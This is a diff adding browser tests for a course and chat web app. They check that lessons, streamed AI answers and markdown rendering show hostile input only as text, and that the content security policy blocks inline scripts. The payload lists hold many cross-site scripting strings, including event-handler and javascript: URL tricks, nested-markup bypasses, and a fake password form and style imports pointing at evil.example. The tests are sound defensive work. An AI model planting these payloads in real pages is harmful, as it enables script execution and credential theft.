@@ -1,0 +1,155 @@
+"""Lessons, answers and questions may hold anything: it is shown as text and never runs, calls out or leads astray.
+
+The witness of every test (conftest.py) notices dialogs, errors, refused scripts and requests to other origins.
+"""
+
+from collections.abc import Iterator
+
+import pytest
+from courses.models import Course, Enrollment
+from playwright.async_api import Page, expect
+
+from tests.browser.pages import Chat
+
+pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.usefixtures("worker")]
+
+EVIL = "https://evil.example"
+HOSTILE = [
+    "zebra <script>window.pwned=1</script>",
+    '<img src=x onerror="window.pwned=2">',
+    "[lure](javascript:window.pwned=3)",
+    '<svg onload="window.pwned=4"></svg>',
+    f"![pixel]({EVIL}/p.png)",
+    f'<iframe src="{EVIL}"></iframe>',
+    '<a href="javascript:alert(5)">trap</a>',
+    "<details open ontoggle=alert(6)>",
+]
+MORE_HOSTILE = [
+    "[x](data:text/html,<script>alert(7)</script>)",
+    "[y](JaVa\tScRiPt:alert(8))",
+    "[z](&#106;avascript:alert(9))",
+    "<javascript:alert(10)>",
+    '![a](x"onerror="alert(11))',
+    '[b](https://ok.example "\\"onmouseover=alert(12)")',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
+    "`<img src=x onerror=alert(14)>`",
+    "```html\n<script>alert(15)</script>\n```",
+    f'<link rel=stylesheet href="{EVIL}/s.css"><meta http-equiv=refresh content="0;url={EVIL}">',
+    f'<form action="{EVIL}"><input name=password><button>Sign in</button></form>',
+    f'<style>@import "{EVIL}/t.css"; body {{ display: none }}</style>',
+    '<p id="chat" class="composer" style="position:fixed;inset:0">over everything</p>',
+    f'<video src="{EVIL}/v.mp4" autoplay></video><base href="{EVIL}/">',
+    "<!-- <script>alert(16)</script> --><script>alert(17)</script>",
+    "</script></noscript></pre></textarea></title><script>alert(18)</script>",
+]
+TITLE = 'Zebra </title><script>alert(19)</script> "<img src=x onerror=alert(20)>'
+HEADING = "Stripes <img src=x onerror=alert(21)>"
+QUESTION = "What is the zebra list <img src=x onerror=alert(22)>?"
+LIST = "The zebra list:\n\n" + "\n".join(f"- {item}" for item in HOSTILE)
+
+RUNNABLE = "script, iframe, object, embed, svg, math, style, link, meta, base, form, input, video, details, [id=chat]"
+# What the text of a page may not have become: something that runs, loads, covers, or leads to a script.
+HARMFUL = """({ root, runnable }) => {
+    const leads = ({ name, value }) => {
+        if (name !== "href" && name !== "src") return /^(on|style$|srcset$|xlink|action$)/i.test(name);
+        const { protocol, origin } = new URL(value, location.href);
+        if (name === "src") return origin !== location.origin;
+        return !["http:", "https:", "mailto:"].includes(protocol);
+    };
+    const harmful = [...root.querySelectorAll("*")].filter((node) => [...node.attributes].some(leads));
+    return [...root.querySelectorAll(runnable), ...harmful].map((node) => node.outerHTML);
+}"""
+
+
+@pytest.fixture
+def hostile_course(learner) -> Iterator[Course]:
+    course = Course.objects.create(slug="test-hostile", title=TITLE, summary="\n".join(HOSTILE))
+    body = f"# {TITLE}\n\n## {HEADING}\n\n{LIST}\n\n" + "\n\n".join(MORE_HOSTILE)
+    lesson = course.lessons.create(slug="zebra", position=1, title=TITLE, body=body)
+    course.passages.create(lesson=lesson, position=1, heading=HEADING, text=LIST)
+    Enrollment.objects.create(course=course, user=learner)
+    yield course
+    course.delete()
+
+
+async def assert_harmless(page: Page, *selectors: str) -> None:
+    for selector in selectors:
+        root = await page.query_selector(selector)
+        assert root, selector
+        assert await page.evaluate(HARMFUL, {"root": root, "runnable": RUNNABLE}) == []
+    assert await page.evaluate("window.pwned") is None
+
+
+async def test_lesson_text_is_only_text(context, hostile_course):
+    page = await context.new_page()
+    await page.goto("/courses/")
+    await page.get_by_role("link", name=TITLE).click()
+    await page.get_by_role("link", name=TITLE).click()
+    body = page.locator("#lesson")
+    await expect(body).to_contain_text("window.pwned=1</script>")
+    await expect(body).to_contain_text("<svg onload=")
+    await assert_harmless(page, "#lesson", "#contents")
+    address = page.url
+    await body.get_by_text("lure").click()
+    await expect(page).to_have_url(address)
+
+
+async def test_answer_text_is_only_text_while_it_is_written_and_after(context, hostile_course, simulator):
+    simulator.set(token_interval=0.012)
+    chat = Chat(await context.new_page(), hostile_course)
+    await chat.open()
+    answer = await chat.ask(QUESTION)
+    await answer.is_under_way()
+    await assert_harmless(chat.page, "#messages")
+    await answer.becomes("completed")
+    stored = await chat.rows.answer()
+    assert [item for item in HOSTILE if item not in stored] == [], "the simulator did not quote all of it"
+    await expect(answer.body).to_contain_text("<script>window.pwned=1</script>")
+    await expect(chat.questions).to_have_text(QUESTION)
+    await assert_harmless(chat.page, "#messages", "#history")
+    shown = await answer.words()
+    await chat.page.reload()
+    await chat.answer.becomes("completed")
+    assert await chat.answer.words() == shown
+    await assert_harmless(chat.page, "#messages", "#history")
+
+
+async def test_every_way_of_cutting_a_stream_is_harmless(chat):
+    """Deltas may end anywhere: each prefix is drawn as a page in mid-answer draws it."""
+    harmful = await chat.page.evaluate(
+        """async ({ text, runnable }) => {
+            const harmful = HARMFUL;
+            const { GrowingMarkdown, settle } = await import("/static/site/growing.js");
+            const { answerParser } = await import("/static/assistant/citations.js");
+            const root = document.createElement("div");
+            document.body.append(root);
+            const growing = new GrowingMarkdown(root, answerParser);
+            const found = [];
+            for (let end = 1; end <= text.length; end += 1) {
+                growing.update(settle(text.slice(0, end)));
+                found.push(...harmful({ root, runnable }));
+            }
+            return found;
+        }""".replace("HARMFUL", HARMFUL),
+        {"text": "\n\n".join([*HOSTILE, *MORE_HOSTILE]), "runnable": RUNNABLE},
+    )
+    assert harmful == []
+
+
+async def test_policy_forbids_inline_code_and_is_enforced(chat, witness):
+    for path in ("/accounts/login/", "/courses/", chat.path, "/api/docs", "/admin/login/", "/no-such-page"):
+        response = await chat.page.request.get(path)
+        policy = response.headers["content-security-policy"]
+        assert "default-src 'self'" in policy, path
+        assert "unsafe" not in policy, path
+    await chat.page.evaluate(
+        """() => {
+            const inline = document.createElement("script");
+            inline.textContent = "window.pwned = 1";
+            document.body.append(inline);
+        }"""
+    )
+    assert await chat.page.evaluate("window.pwned") is None
+    [refusal] = witness.seen
+    assert refusal.startswith("Executing inline script violates")
+    witness.seen.clear()
